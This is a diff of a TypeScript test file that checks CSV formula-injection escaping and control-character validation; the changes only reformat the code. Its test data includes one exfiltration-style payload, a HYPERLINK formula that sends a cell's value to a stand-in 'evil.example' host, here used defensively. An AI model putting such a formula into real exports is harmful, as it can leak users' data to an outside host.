@@ -5,9 +5,12 @@ import { csvCellValue, csvSafe } from '../../server/domain/csv.ts';
 import { controlCharacterErrors, hasControlCharacter } from '../../server/domain/text.ts';
 
 describe('csvSafe: a cell a spreadsheet would run as a formula is written as text (OWASP)', () => {
-  test.each(['=1+1', '+1+1', '-1+1', '@SUM(A1)', '\t=1+1', '\r=1+1', '=HYPERLINK("http://evil.example/?"&A1,"Click")'])('%j gets a leading apostrophe', (cell) => {
-    expect(csvSafe(cell)).toBe(`'${cell}`);
-  });
+  test.each(['=1+1', '+1+1', '-1+1', '@SUM(A1)', '\t=1+1', '\r=1+1', '=HYPERLINK("http://evil.example/?"&A1,"Click")'])(
+    '%j gets a leading apostrophe',
+    (cell) => {
+      expect(csvSafe(cell)).toBe(`'${cell}`);
+    },
+  );
   test('ordinary text is left alone, including a formula character further in', () => {
     expect(csvSafe('Japan 5 GB – 30 days')).toBe('Japan 5 GB – 30 days');
     expect(csvSafe('a=b')).toBe('a=b');
@@ -20,8 +23,8 @@ describe('csvSafe: a cell a spreadsheet would run as a formula is written as tex
   });
   test('reading back takes off the apostrophe csvSafe added, and only that one', () => {
     expect(csvCellValue(csvSafe('=1+1'))).toBe('=1+1');
-    expect(csvCellValue('\'quoted')).toBe('\'quoted');
-    expect(csvCellValue('\'')).toBe('\'');
+    expect(csvCellValue("'quoted")).toBe("'quoted");
+    expect(csvCellValue("'")).toBe("'");
   });
 });
 
@@ -35,7 +38,8 @@ describe('control characters in input', () => {
   });
   test('each field holding one is named by its path, NUL said as such', () => {
     expect(controlCharacterErrors({ email: 'a\u0000b', nested: { list: ['ok', 'x\u001b'] }, n: 3 })).toEqual({
-      email: 'must not contain NUL characters', 'nested.list.1': 'must not contain control characters',
+      email: 'must not contain NUL characters',
+      'nested.list.1': 'must not contain control characters',
     });
   });
   test('a field name holding one is named with the character shown as ?', () => {
